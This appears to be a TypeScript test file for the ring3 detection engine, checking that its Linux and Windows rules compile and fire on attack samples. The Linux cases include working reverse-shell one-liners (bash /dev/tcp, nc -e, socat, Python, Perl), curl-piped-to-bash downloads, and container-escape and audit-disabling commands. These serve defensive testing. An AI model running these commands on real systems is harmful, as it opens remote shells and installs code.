/**
 * The rules ring3 ships (content/rules): they load without a single diagnostic, carry the metadata an analyst
 * needs, and detect what they claim. Linux rules run on hand-built ring3 events (a malicious example and a benign
 * look-alike each); Windows rules run on the EVTX attack samples they were written for.
 */
import assert from "node:assert/strict";
import { existsSync, readFileSync } from "node:fs";
import { basename, dirname, join, relative, sep } from "node:path";
import { test } from "node:test";
import type { CompiledRule, LoadResult } from "@ring3/detection";
import { categoryParents, loadRules, Ruleset, serviceAliases, windowsRecordToEvent } from "@ring3/detection";
import { EvtxReader } from "@ring3/evtx";
import type { Event, EventFields } from "@ring3/schema";
import { REPO_ROOT, SHARED_DATA_MISSING, sharedDataDir } from "@ring3/testkit";
import { collectRuleFiles, readRuleSources } from "../src/rule-files.ts";
import { loadWindowsLogsourceMap } from "../src/windows-logsources.ts";
import { runCli } from "./cli-harness.ts";

const RULES_DIR = join(REPO_ROOT, "content", "rules");
const shared = sharedDataDir();
const SAMPLES = shared === undefined ? undefined : join(shared, "evtx-samples", "evtx-attack-samples-subset");

let cached: LoadResult | undefined;
async function shippedRules(): Promise<LoadResult> {
  cached ??= loadRules(await readRuleSources([RULES_DIR]));
  return cached;
}

/** `windows` or `linux`: the first directory under content/rules. */
function osOf(rule: CompiledRule): string {
  return relative(RULES_DIR, rule.rule.file).split(sep)[0] ?? "";
}

test("rules check --json content/rules: every file compiles, no errors, no warnings", async () => {
  const files = await collectRuleFiles([RULES_DIR]);
  assert.ok(files.length > 0, "content/rules holds no rule files");
  const r = await runCli(["rules", "check", "--json", RULES_DIR]);
  const summary = JSON.parse(r.stdout) as {
    files: number;
    rules: number;
    compiled: number;
    errors: number;
    warnings: number;
    diagnostics: unknown[];
  };
  assert.deepEqual(summary.diagnostics, []);
  assert.equal(summary.errors, 0);
  assert.equal(summary.warnings, 0);
  assert.equal(summary.files, files.length);
  assert.equal(summary.rules, files.length, "one rule per file");
  assert.equal(summary.compiled, summary.rules);
  assert.equal(r.code, 0);
});

test("every rule has a unique UUIDv4 id and the metadata an analyst needs", async () => {
  const { rules, failed } = await shippedRules();
  assert.deepEqual(
    failed.map((f) => f.file),
    [],
  );
  const uuid4 = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
  const seen = new Map<string, string>();
  for (const { rule } of rules) {
    const where = relative(RULES_DIR, rule.file);
    assert.ok(rule.id !== undefined && uuid4.test(rule.id), `${where}: id ${String(rule.id)} is not a UUIDv4`);
    assert.equal(seen.get(rule.id), undefined, `${where}: id ${rule.id} is also used by ${seen.get(rule.id)}`);
    seen.set(rule.id, where);
    assert.ok((rule.author ?? "").trim() !== "", `${where}: no author`);
    assert.ok(rule.level !== undefined, `${where}: no level`);
    assert.ok((rule.description ?? "").trim().length >= 80, `${where}: the description must say why this matters`);
    assert.ok(["experimental", "test", "stable"].includes(rule.status ?? ""), `${where}: status ${rule.status}`);
    assert.match(rule.date ?? "", /^\d{4}-\d{2}-\d{2}$/, `${where}: date`);
    assert.ok(rule.falsepositives.length > 0, `${where}: no falsepositives`);
  }
});

test("files follow content/rules/<os>/<category>/<category>_<os>_<what>.yml and match their logsource", async () => {
  const { rules } = await shippedRules();
  for (const { rule } of rules) {
    const parts = relative(RULES_DIR, rule.file).split(sep);
    const where = parts.join("/");
    assert.equal(parts.length, 3, `${where}: expected <os>/<category>/<file>`);
    const [os, dir, file] = parts as [string, string, string];
    assert.ok(os === "windows" || os === "linux", `${where}: unknown OS directory`);
    assert.equal(rule.logsource.product, os, `${where}: logsource.product`);
    assert.ok(file.startsWith(`${dir}_${os === "windows" ? "win" : "lnx"}_`), `${where}: file name prefix`);
    assert.match(file, /^[a-z0-9_]+\.yml$/, `${where}: file name`);
    const named = rule.logsource.category ?? rule.logsource.service?.replace(/-/g, "_");
    assert.equal(dir, named, `${where}: directory vs logsource`);
  }
});

type AttackData = {
  techniques: { id: string; tactics: string[] }[];
  tactics: { shortname: string }[];
};

test("ATT&CK tags: at least one technique per rule, tactics and techniques that exist and agree", async (t) => {
  const { rules } = await shippedRules();
  const techniqueTag = /^attack\.t\d{4}(\.\d{3})?$/;
  const attackFile = shared === undefined ? undefined : join(shared, "attack", "enterprise-techniques.json");
  const attack =
    attackFile !== undefined && existsSync(attackFile)
      ? (JSON.parse(readFileSync(attackFile, "utf8")) as AttackData)
      : undefined;
  for (const r of rules) {
    const where = relative(RULES_DIR, r.rule.file);
    const tags = r.rule.tags.filter((tag) => tag.startsWith("attack."));
    assert.ok(
      tags.some((tag) => techniqueTag.test(tag)),
      `${where}: no attack.tNNNN tag`,
    );
    // Every attack.* tag is a technique or a tactic the engine recognises (nothing silently ignored).
    assert.equal(r.techniques.length + r.tactics.length, tags.length, `${where}: unrecognised attack.* tag`);
    assert.ok(r.tactics.length > 0, `${where}: no tactic tag`);
  }
  if (attack === undefined) {
    t.skip(`${SHARED_DATA_MISSING}: technique ids checked for format only`);
    return;
  }
  const techniques = new Map(attack.techniques.map((x) => [x.id, x.tactics]));
  const tactics = new Set(attack.tactics.map((x) => x.shortname));
  for (const r of rules) {
    const where = relative(RULES_DIR, r.rule.file);
    for (const tactic of r.tactics) assert.ok(tactics.has(tactic), `${where}: tactic ${tactic} is not in ATT&CK`);
    for (const id of r.techniques) {
      const of = techniques.get(id);
      assert.ok(of !== undefined, `${where}: ${id} is not an active ATT&CK technique`);
      assert.ok(
        of.some((tactic) => r.tactics.includes(tactic)),
        `${where}: ${id} belongs to ${of.join(", ")}, none of the rule's tactics`,
      );
    }
    for (const tactic of r.tactics) {
      assert.ok(
        r.techniques.some((id) => techniques.get(id)?.includes(tactic)),
        `${where}: no technique of the rule belongs to ${tactic}`,
      );
    }
  }
});

// ---- Linux: a malicious example and a benign look-alike per rule ------------------------------------------------

type Source = "process_creation" | "network_connection" | "file_event" | "file_delete" | "auditd";
type Case = { source: Source; hits: EventFields[]; misses: EventFields[] };

const proc = (Image: string, CommandLine: string, ParentImage = "/usr/bin/bash"): EventFields => ({
  Image,
  CommandLine,
  ParentImage,
  User: "www-data",
  CurrentDirectory: "/var/www/html",
});
const file = (TargetFilename: string, Image: string): EventFields => ({ TargetFilename, Image });
const conn = (Image: string, DestinationIp: string, DestinationPort: number, Initiated = true): EventFields => ({
  Image,
  DestinationIp,
  DestinationPort,
  Initiated,
});
const syscall = (fields: Record<string, string | string[]>): EventFields => ({
  type: "SYSCALL",
  success: "yes",
  ...fields,
});
/** A file-watch event as ring3's agent merges it: SYSCALL, CWD and PATH records in one, repeated keys as lists. */
const watched = (fields: { exe: string; cwd: string; name: string[] }): EventFields => ({
  type: ["SYSCALL", "CWD", "PATH", "PROCTITLE"],
  arch: "c000003e",
  syscall: ["257", "openat"],
  success: "yes",
  key: "ring3-watch",
  nametype: fields.name.length > 1 ? ["PARENT", "CREATE"] : "NORMAL",
  ...fields,
});

const LINUX_CASES: Record<string, Case> = {
  "process_creation_lnx_shell_reverse_shell.yml": {
    source: "process_creation",
    hits: [
      proc("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'", "/usr/sbin/apache2"),
      proc("/usr/bin/nc.traditional", "nc -e /bin/sh 203.0.113.7 4444"),
      proc("/usr/bin/socat", "socat tcp-connect:203.0.113.7:4444 exec:/bin/bash,pty,stderr,setsid"),
    ],
    misses: [
      proc("/usr/bin/bash", "bash -c 'cat < /dev/null > /dev/tcp/db/5432'"),
      proc(
        "/usr/bin/bash",
        `bash -c 'exec 3<>/dev/tcp/10.0.0.5/8080; echo -e "GET /healthz HTTP/1.0\r\n\r\n" >&3; cat <&3'`,
      ),
      proc("/usr/bin/bash", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9000 0>&1'"),
      proc("/usr/bin/nc.openbsd", "nc -C mail.example.org 25"),
      proc("/usr/bin/socat", "socat TCP-LISTEN:8080,fork TCP:10.0.0.5:80"),
    ],
  },
  "process_creation_lnx_interpreter_reverse_shell.yml": {
    source: "process_creation",
    hits: [
      proc(
        "/usr/bin/python3.11",
        `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/bash")'`,
      ),
      proc(
        "/usr/bin/perl",
        `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(4444,inet_aton("203.0.113.7")));open(STDIN,">&S");exec("/bin/sh -i");'`,
      ),
    ],
    misses: [proc("/usr/bin/python3", "python3 /opt/app/socket_server.py --port 8000")],
  },
  "process_creation_lnx_download_piped_to_shell.yml": {
    source: "process_creation",
    hits: [
      proc("/bin/sh", "sh -c curl -fsSL http://203.0.113.7/i.sh | bash", "/usr/bin/java"),
      proc("/bin/sh", "/bin/sh -c wget -q -O- http://203.0.113.7/x | sudo sh"),
    ],
    misses: [
      proc("/usr/bin/curl", "curl -fsSL https://example.org/install.sh -o install.sh"),
      proc("/bin/sh", "sh -c curl -s https://example.org/file.tgz | sha256sum"),
    ],
  },
  "process_creation_lnx_base64_decoded_execution.yml": {
    source: "process_creation",
    hits: [
      proc("/bin/sh", "sh -c echo Y3VybCBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo | base64 -d | bash"),
      proc("/usr/bin/python3", `python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IG9z'))"`),
    ],
    misses: [
      proc("/usr/bin/base64", "base64 -d /tmp/cert.b64"),
      proc("/usr/bin/python3", `python3 -c "import base64;print(base64.b64decode('aGk='))"`),
    ],
  },
  "process_creation_lnx_shell_history_tampering.yml": {
    source: "process_creation",
    hits: [
      proc("/usr/bin/rm", "rm -f /root/.bash_history"),
      proc("/usr/bin/bash", "bash -c unset HISTFILE; id"),
      proc("/usr/bin/ln", "ln -sf /dev/null /home/bob/.bash_history"),
    ],
    misses: [proc("/usr/bin/cat", "cat /home/bob/.bash_history"), proc("/usr/bin/rm", "rm -f /tmp/build.log")],
  },
  "process_creation_lnx_kernel_module_from_writable_path.yml": {
    source: "process_creation",
    hits: [proc("/usr/sbin/insmod", "insmod /tmp/.x/diamorphine.ko")],
    misses: [
      proc("/usr/sbin/modprobe", "modprobe nf_conntrack"),
      proc("/usr/sbin/insmod", "insmod /lib/modules/6.8.0/extra/vboxdrv.ko"),
    ],
  },
  "process_creation_lnx_cryptominer_command_line.yml": {
    source: "process_creation",
    hits: [
      proc("/tmp/.cache/kworker", "kworker -o stratum+tcp://pool.example.net:3333 -u 4AbC -p x --donate-level 1"),
      proc("/var/tmp/.x/sysupdate", "sysupdate --algo=rx/0 -o pool.example.net:443 --tls"),
    ],
    misses: [
      proc("/usr/bin/python3", "python3 train.py --workers 8 --epochs 10"),
      proc("/usr/bin/grep", "grep rx/0 /proc/net/dev"),
    ],
  },
  "process_creation_lnx_container_escape.yml": {
    source: "process_creation",
    hits: [
      proc("/usr/bin/nsenter", "nsenter -t 1 -m -u -i -n /bin/sh"),
      proc("/usr/bin/docker", "docker run --rm -it --privileged -v /:/host alpine chroot /host"),
      proc("/bin/sh", "sh -c echo /cmd > /tmp/cgrp/release_agent"),
    ],
    misses: [
      proc("/usr/bin/nsenter", "nsenter -t 4312 -n ip addr"),
      proc("/usr/bin/docker", "docker run --rm -v /srv/data:/data alpine ls /data"),
    ],
  },
  "process_creation_lnx_deleted_or_memfd_binary_executed.yml": {
    source: "process_creation",
    hits: [proc("/tmp/.x/payload (deleted)", "[kworker/0:1]"), proc("/memfd:a (deleted)", "sshd: root")],
    misses: [
      proc("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc init", "/usr/bin/containerd-shim-runc-v2"),
      proc("/usr/bin/sleep", "sleep 60"),
    ],
  },
  "process_creation_lnx_setuid_bit_on_writable_path.yml": {
    source: "process_creation",
    hits: [proc("/usr/bin/chmod", "chmod u+s /tmp/.sh"), proc("/usr/bin/chmod", "chmod 4755 /var/tmp/bash")],
    misses: [
      proc("/usr/bin/chmod", "chmod 2775 /home/shared/project"),
      proc("/usr/bin/chmod", "chmod +x /tmp/build.sh"),
    ],
  },
  "file_event_lnx_ld_so_preload_written.yml": {
    source: "file_event",
    hits: [file("/etc/ld.so.preload", "/usr/bin/bash")],
    misses: [file("/etc/ld.so.conf.d/libc.conf", "/usr/bin/dpkg")],
  },
  "file_event_lnx_account_database_modified.yml": {
    source: "file_event",
    hits: [file("/etc/passwd", "/usr/bin/bash"), file("/etc/shadow", "/usr/bin/python3")],
    misses: [file("/etc/passwd", "/usr/sbin/useradd"), file("/etc/passwd.bak", "/usr/bin/cp")],
  },
  "file_event_lnx_sudoers_modified.yml": {
    source: "file_event",
    hits: [file("/etc/sudoers.d/99-backdoor", "/usr/bin/tee")],
    misses: [file("/etc/sudoers", "/usr/sbin/visudo"), file("/etc/sudo.conf", "/usr/bin/vim")],
  },
  "file_event_lnx_ssh_authorized_keys_written.yml": {
    source: "file_event",
    hits: [file("/root/.ssh/authorized_keys", "/usr/bin/bash")],
    misses: [file("/root/.ssh/known_hosts", "/usr/bin/ssh")],
  },
  "file_event_lnx_cron_entry_written.yml": {
    source: "file_event",
    hits: [
      file("/etc/cron.d/sysupdate", "/usr/bin/curl"),
      file("/var/spool/cron/crontabs/www-data", "/usr/bin/crontab"),
    ],
    misses: [file("/etc/cron.d/logrotate", "/usr/bin/dpkg"), file("/etc/cron.allow.bak", "/usr/bin/cp")],
  },
  "file_event_lnx_systemd_unit_written.yml": {
    source: "file_event",
    hits: [
      file("/etc/systemd/system/dbus-helper.service", "/usr/bin/bash"),
      file("/home/bob/.config/systemd/user/update.timer", "/usr/bin/python3"),
    ],
    misses: [
      file("/etc/systemd/system/multi-user.target.wants/nginx.service", "/usr/bin/systemctl"),
      file("/lib/systemd/system/nginx.service", "/usr/bin/dpkg"),
    ],
  },
  "network_connection_lnx_shell_outbound.yml": {
    source: "network_connection",
    hits: [conn("/usr/bin/bash", "203.0.113.7", 4444)],
    misses: [conn("/usr/bin/bash", "127.0.0.1", 5432), conn("/usr/bin/curl", "203.0.113.7", 443)],
  },
  "network_connection_lnx_binary_in_temp_connects_out.yml": {
    source: "network_connection",
    hits: [conn("/dev/shm/.x/kdevtmpfsi", "198.51.100.9", 3333)],
    misses: [conn("/usr/sbin/sshd", "198.51.100.9", 22), conn("/tmp/devserver", "198.51.100.9", 8080, false)],
  },
  "auditd_lnx_ld_so_preload_modified.yml": {
    source: "auditd",
    hits: [
      watched({ exe: "/usr/bin/bash", cwd: "/root", name: ["/etc/", "/etc/ld.so.preload"] }),
      watched({ exe: "/usr/bin/tee", cwd: "/etc", name: ["ld.so.preload"] }),
    ],
    misses: [
      watched({ exe: "/usr/sbin/ldconfig", cwd: "/", name: ["/etc/", "/etc/ld.so.cache"] }),
      syscall({
        arch: "c000003e",
        syscall: ["59", "execve"],
        exe: "/usr/bin/cat",
        proctitle: "cat /etc/ld.so.preload",
      }),
    ],
  },
  "auditd_lnx_authorized_keys_modified.yml": {
    source: "auditd",
    hits: [watched({ exe: "/usr/bin/bash", cwd: "/tmp", name: ["/root/.ssh/", "/root/.ssh/authorized_keys"] })],
    misses: [watched({ exe: "/usr/bin/ssh", cwd: "/root", name: ["/root/.ssh/", "/root/.ssh/known_hosts"] })],
  },
  "auditd_lnx_kernel_module_load_syscall.yml": {
    source: "auditd",
    hits: [
      syscall({ arch: "c000003e", syscall: "313", exe: "/tmp/.l/loader", comm: "loader", key: "modules" }),
      syscall({ syscall: "finit_module", exe: "/var/tmp/x", comm: "x" }),
    ],
    misses: [
      syscall({ arch: "c000003e", syscall: "313", exe: "/usr/bin/kmod", comm: "modprobe", key: "modules" }),
      syscall({ arch: "c000003e", syscall: "59", exe: "/tmp/.l/loader", comm: "loader" }),
    ],
  },
  "auditd_lnx_ptrace_attach_or_poke.yml": {
    source: "auditd",
    hits: [
      syscall({ arch: "c000003e", syscall: "101", a0: "10", a1: "1c2", exe: "/tmp/inject", comm: "inject" }),
      syscall({ syscall: "ptrace", a0: "PTRACE_POKETEXT", exe: "/dev/shm/x", comm: "x" }),
    ],
    misses: [
      syscall({ arch: "c000003e", syscall: "101", a0: "10", exe: "/usr/bin/gdb", comm: "gdb" }),
      syscall({ arch: "c000003e", syscall: "101", a0: "0", exe: "/usr/bin/app", comm: "app" }),
    ],
  },
  "process_creation_lnx_auditctl_rules_deleted_or_disabled.yml": {
    source: "process_creation",
    hits: [proc("/usr/sbin/auditctl", "auditctl -D"), proc("/usr/sbin/auditctl", "/sbin/auditctl -e 0")],
    misses: [proc("/usr/sbin/auditctl", "auditctl -l"), proc("/usr/sbin/auditctl", "auditctl -e 1")],
  },
  "file_event_lnx_ring3_agent_files_modified.yml": {
    source: "file_event",
    hits: [
      file("/etc/ring3/agent.yaml", "/usr/bin/vim.basic"),
      file("/etc/systemd/system/ring3-agent.service.d/override.conf", "/usr/bin/bash"),
    ],
    misses: [file("/etc/ring3/agent.yaml", "/usr/bin/dpkg"), file("/etc/ring3.conf.bak", "/usr/bin/cp")],
  },
  "file_delete_lnx_ring3_agent_files_deleted.yml": {
    source: "file_delete",
    hits: [file("/opt/ring3/packages/cli/bin/ring3.js", "/usr/bin/rm")],
    misses: [file("/opt/ring3/packages/cli/bin/ring3.js", "/usr/bin/dpkg"), file("/etc/ringtones/x", "/usr/bin/rm")],
  },
  "auditd_lnx_audit_rules_removed_or_disabled.yml": {
    source: "auditd",
    hits: [
      {
        type: ["CONFIG_CHANGE", "SYSCALL"],
        op: "remove_rule",
        key: "ring3-exec",
        list: "4",
        exe: "/usr/sbin/auditctl",
      },
      { type: "CONFIG_CHANGE", op: "set", audit_enabled: "0", old: "1", res: "1" },
    ],
    misses: [
      { type: ["CONFIG_CHANGE", "SYSCALL"], op: "add_rule", key: "ring3-exec", list: "4", exe: "/usr/sbin/auditctl" },
      { type: ["CONFIG_CHANGE", "SYSCALL"], op: "remove_rule", key: "ring3-exec", ring3_self: "true" },
    ],
  },
  "auditd_lnx_ring3_agent_signalled_or_traced.yml": {
    source: "auditd",
    hits: [
      syscall({
        arch: "c000003e",
        syscall: ["62", "kill"],
        a0: "2bed",
        a1: "9",
        key: "ring3-self",
        exe: "/usr/bin/bash",
      }),
      syscall({ arch: "c000003e", syscall: ["101", "ptrace"], a0: "10", key: "ring3-self", exe: "/tmp/x" }),
    ],
    misses: [
      syscall({
        arch: "c000003e",
        syscall: ["62", "kill"],
        a0: "2bed",
        a1: "0",
        key: "ring3-self",
        exe: "/usr/bin/bash",
      }),
      syscall({ arch: "c000003e", syscall: ["62", "kill"], a0: "1f40", a1: "9", exe: "/usr/bin/bash" }),
    ],
  },
};

let counter = 0;
function linuxEvent(source: Source, fields: EventFields): Event {
  counter += 1;
  const logsource =
    source === "auditd" ? { product: "linux", service: "auditd" } : { product: "linux", category: source };
  return { id: `test:${counter}`, time: "2026-11-23T12:00:00.000Z", host: "web01", logsource, fields };
}

test("Linux rules: each fires on its malicious example and not on the benign look-alike", async () => {
  const linux = (await shippedRules()).rules.filter((r) => osOf(r) === "linux");
  assert.deepEqual(
    linux.map((r) => basename(r.rule.file)).sort(),
    Object.keys(LINUX_CASES).sort(),
    "every Linux rule needs cases (and every case a rule)",
  );
  const ruleset = new Ruleset(linux);
  const fired = (event: Event): string[] => ruleset.match(event).map((m) => basename(m.file));
  for (const [name, c] of Object.entries(LINUX_CASES)) {
    assert.ok(c.hits.length > 0 && c.misses.length > 0, `${name}: needs a positive and a negative`);
    const dir = basename(dirname(linux.find((r) => basename(r.rule.file) === name)?.rule.file ?? ""));
    assert.equal(dir, c.source, `${name}: case source vs rule directory`);
    for (const fields of c.hits) {
      assert.ok(fired(linuxEvent(c.source, fields)).includes(name), `${name} should fire on ${JSON.stringify(fields)}`);
    }
    for (const fields of c.misses) {
      assert.ok(!fired(linuxEvent(c.source, fields)).includes(name), `${name} fired on ${JSON.stringify(fields)}`);
    }
  }
});

// ---- Windows: each rule fires on the attack sample it was written for ------------------------------------------

const PANACHE = "AutomatedTestingTools/PanacheSysmon_vs_AtomicRedTeam01.evtx";
const SIDELOAD = "AutomatedTestingTools/Malware/DE_timestomp_and_dll_sideloading_and_RunPersist.evtx";
const MALDOC = "Other/maldoc_mshta_via_shellbrowserwind_rundll32.evtx";
const DEFENDER = "AutomatedTestingTools/WinDefender_Events_1117_1116_AtomicRedTeam.evtx";
const RDP_5156 = "Command and Control/DE_RDP_Tunnel_5156.evtx";

/** Rule file → the samples (relative to evtx-attack-samples-subset) it must fire on. */
const WINDOWS_SAMPLES: Record<string, readonly string[]> = {
  "process_creation_win_shadow_copy_or_backup_deletion.yml": [PANACHE],
  "process_creation_win_bcdedit_recovery_disabled.yml": [PANACHE],
  "process_creation_win_reg_save_credential_hives.yml": [PANACHE],
  "process_creation_win_certutil_decode_or_download.yml": [PANACHE],
  "process_creation_win_renamed_certutil.yml": [PANACHE],
  "process_creation_win_regsvr32_scriptlet.yml": [PANACHE],
  "process_creation_win_bitsadmin_transfer_or_notify.yml": [PANACHE],
  "process_creation_win_lsass_dump_command_line.yml": [PANACHE],
  "process_creation_win_ntds_or_hive_copy_for_offline_extraction.yml": [PANACHE],
  "process_creation_win_at_job_scheduled.yml": [PANACHE],
  "process_creation_win_mavinject_injectrunning.yml": [PANACHE],
  "process_creation_win_xsl_script_processing.yml": [PANACHE],
  "process_creation_win_pubprn_script_moniker.yml": [PANACHE],
  "process_creation_win_fltmc_unload_filter.yml": [PANACHE],
  "process_creation_win_net_use_admin_share_credentials.yml": [PANACHE],
  "process_creation_win_iis_http_logging_disabled.yml": [PANACHE],
  "process_creation_win_pcalua_launched_from_shell.yml": [PANACHE],
  "process_creation_win_powershell_fake_credential_prompt.yml": [PANACHE],
  "process_creation_win_mshta_spawns_proxy_or_shell.yml": [MALDOC],
  "process_creation_win_rundll32_image_or_text_file.yml": [MALDOC],
  // Security 4688, mapped to process_creation by content/logsources/windows.yaml.
  "process_creation_win_plink_outside_program_files.yml": [RDP_5156],
  "registry_set_win_ifeo_debugger_on_accessibility_binary.yml": [PANACHE],
  "registry_set_win_run_key_system_process_name_outside_system32.yml": [SIDELOAD],
  "registry_set_win_run_key_script_download_cradle.yml": [PANACHE],
  "registry_set_win_userinitmprlogonscript.yml": [PANACHE],
  "registry_set_win_appinit_dlls.yml": [PANACHE],
  "registry_set_win_lsa_notification_packages.yml": [PANACHE],
  "file_change_win_executable_timestomped_by_downloaded_process.yml": [SIDELOAD],
  "file_event_win_startup_folder_shortcut_by_script_host.yml": [PANACHE],
  "image_load_win_nvsmartmax_sideloading.yml": [SIDELOAD],
  "image_load_win_scrobj_in_regsvr32_or_rundll32.yml": [PANACHE],
  "network_connection_win_regsvr32_outbound_public.yml": [PANACHE],
  "process_access_win_lsass_read_by_script_or_proxy_host.yml": [PANACHE],
  "process_access_win_full_access_from_unbacked_code.yml": [SIDELOAD],
  "pipe_created_win_eventlog_pipe_remote_client.yml": [
    "Defense Evasion/DE_remote_eventlog_svc_crash_byt3bl33d3r_sysmon_17_1_3.evtx",
  ],
  "driver_load_win_vulnerable_hardware_access_driver.yml": [
    "Discovery/discovery_UEFI_Settings_rweverything_sysmon_6.evtx",
  ],
  "wmi_event_win_command_or_script_consumer_created.yml": [PANACHE],
  "security_win_security_log_cleared.yml": [
    "Credential Access/ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx",
    "Privilege Escalation/security_4624_4673_token_manip.evtx",
  ],
  "system_win_event_log_cleared.yml": ["Defense Evasion/DE_104_system_log_cleared.evtx"],
  "security_win_atexec_style_scheduled_task.yml": ["Execution/temp_scheduled_task_4698_4699.evtx"],
  "security_win_builtin_or_guest_account_added_to_administrators.yml": [
    "Persistence/Network_Service_Guest_added_to_admins_4732.evtx",
  ],
  "security_win_sid_history_added.yml": ["Privilege Escalation/4765_sidhistory_add_t1178.evtx"],
  "security_win_computer_account_renamed_without_dollar.yml": [
    "Privilege Escalation/samaccount_spoofing_CVE-2021-42287_CVE-2021-42278_DC_securitylogs.evtx",
  ],
  "security_win_new_credentials_logon.yml": ["Privilege Escalation/security_4624_4673_token_manip.evtx"],
  "security_win_domain_admins_group_queried_via_sam.yml": [
    "Discovery/dicovery_4661_net_group_domain_admins_target.evtx",
  ],
  "security_win_remote_eventlog_pipe_over_smb.yml": [
    "Defense Evasion/DE_suspicious_remote_eventlog_svc_access_5145.evtx",
  ],
  "security_win_local_accounts_enumerated_with_net.yml": [
    "Discovery/discovery_local_user_or_group_windows_security_4799_4798.evtx",
  ],
  "security_win_rdp_to_loopback_via_wfp.yml": [RDP_5156],
  "security_win_office_opens_shellbrowserwindow_clsid.yml": [MALDOC],
  "application_win_ntds_database_created_or_snapshot_mounted.yml": [
    "Credential Access/dc_applog_ntdsutil_dfir_325_326_327.evtx",
  ],
  "application_win_mssql_xp_cmdshell.yml": ["Lateral Movement/LM_xp_cmdshell_MSSQL_Events.evtx"],
  "application_win_msi_installed_from_url.yml": ["Execution/rogue_msi_url_1040_1042.evtx"],
  "application_experience_win_control_panel_applet_from_user_folder.yml": [
    "Execution/Exec_via_cpl_Application_Experience_EventID_17_ControlPanelApplet.evtx",
  ],
  "application_experience_win_shim_applied_to_accessibility_binary.yml": [
    "Persistence/Persistence_Shime_Microsoft-Windows-Application-Experience_Program-Telemetry_500.evtx",
  ],
  "windefend_win_malicious_powershell_detected.yml": [DEFENDER],
  "windefend_win_web_script_flagged.yml": [DEFENDER],
  "ps_script_win_minidumpwritedump_reflection.yml": ["Credential Access/Powershell_4104_MiniDumpWriteDump_Lsass.evtx"],
  "ps_classic_script_win_backtick_obfuscated_member.yml": ["Other/emotet/exec_emotet_ps_800_get-item.evtx"],
  "bits_client_win_job_created_by_unusual_process.yml": ["Command and Control/bits_openvpn.evtx"],
  "terminalservices_remoteconnectionmanager_win_rdp_logon_from_loopback.yml": [
    "Command and Control/DE_RDP_Tunneling_TerminalServices-RemoteConnectionManagerOperational_1149.evtx",
  ],
  "remotedesktopservices_rdpcorets_win_ms_t120_channel_opened.yml": [
    "Other/rdpcorets_148_mst120_bluekeep_rpdscan_full.evtx",
  ],
};

test("Windows rules: each fires on at least one record of the attack sample(s) it was written for", async (t) => {
  const windows = (await shippedRules()).rules.filter((r) => osOf(r) === "windows");
  assert.deepEqual(
    windows.map((r) => basename(r.rule.file)).sort(),
    Object.keys(WINDOWS_SAMPLES).sort(),
    "every Windows rule needs a sample (and every sample entry a rule)",
  );
  if (SAMPLES === undefined) {
    t.skip(SHARED_DATA_MISSING);
    return;
  }
  const { map, diagnostics } = await loadWindowsLogsourceMap(undefined);
  assert.deepEqual(diagnostics, []);
  assert.ok(map !== undefined);
  const ruleset = new Ruleset(windows, { categoryParents: categoryParents(map), serviceAliases: serviceAliases(map) });
  const firedOn = new Map<string, Set<string>>();
  const samples = [...new Set(Object.values(WINDOWS_SAMPLES).flat())].sort();
  for (const sample of samples) {
    const path = join(SAMPLES, ...sample.split("/"));
    assert.ok(existsSync(path), `${sample} is missing from the attack samples`);
    for await (const record of new EvtxReader(path)) {
      for (const match of ruleset.match(windowsRecordToEvent(record.event, map))) {
        const name = basename(match.file);
        const set = firedOn.get(name) ?? new Set<string>();
        set.add(sample);
        firedOn.set(name, set);
      }
    }
  }
  for (const [name, expected] of Object.entries(WINDOWS_SAMPLES)) {
    for (const sample of expected) {
      assert.ok(firedOn.get(name)?.has(sample), `${name} did not fire on ${sample}`);
    }
  }
});
